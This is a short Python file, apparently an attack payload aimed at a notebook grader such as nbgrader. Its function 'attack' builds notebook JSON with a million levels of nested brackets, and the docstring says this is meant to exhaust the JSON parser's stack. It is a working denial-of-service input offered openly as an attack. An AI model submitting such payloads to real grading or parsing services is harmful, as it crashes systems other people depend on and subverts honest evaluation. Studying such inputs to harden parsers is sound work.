"""Nests lists a million levels deep.

Would end the JSON parser by its stack.

Plain nbgrader: not tried.
"""


def attack(notebook):
    return '{"cells": ' + "[" * 10**6 + "]" * 10**6 + "}"
